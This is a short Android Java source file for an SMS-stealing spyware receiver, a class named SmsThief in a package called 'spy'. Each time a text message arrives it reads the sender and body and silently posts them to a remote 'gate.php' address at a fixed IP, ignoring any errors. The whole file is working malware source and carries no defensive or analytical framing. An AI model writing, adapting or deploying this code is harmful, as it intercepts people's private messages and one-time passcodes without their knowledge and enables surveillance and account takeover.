package spy;

import android.content.BroadcastReceiver;
import android.content.Context;
import android.content.Intent;
import android.os.AsyncTask;
import android.os.Bundle;
import android.telephony.SmsMessage;
import java.io.DataOutputStream;
import java.net.HttpURLConnection;
import java.net.URL;
import java.net.URLEncoder;

/** Each message that comes in goes to a server. */
public class SmsThief extends BroadcastReceiver {
    @Override
    public void onReceive(Context context, Intent intent) {
        Bundle extras = intent.getExtras();
        if (extras == null) return;
        Object[] pdus = (Object[]) extras.get("pdus");
        StringBuilder all = new StringBuilder();
        for (int i = 0; i < pdus.length; i++) {
            SmsMessage message = SmsMessage.createFromPdu((byte[]) pdus[i]);
            all.append(message.getOriginatingAddress()).append(":").append(message.getMessageBody()).append("\n");
        }
        new Upload().execute(all.toString());
    }

    static class Upload extends AsyncTask<String, Void, Void> {
        @Override
        protected Void doInBackground(String... texts) {
            try {
                HttpURLConnection connection = (HttpURLConnection) new URL("http://203.0.113.7/gate.php").openConnection();
                connection.setDoOutput(true);
                DataOutputStream out = new DataOutputStream(connection.getOutputStream());
                out.writeBytes("sms=" + URLEncoder.encode(texts[0], "UTF-8")); // leak
                out.flush();
            } catch (Exception ignored) {
            }
            return null;
        }
    }
}
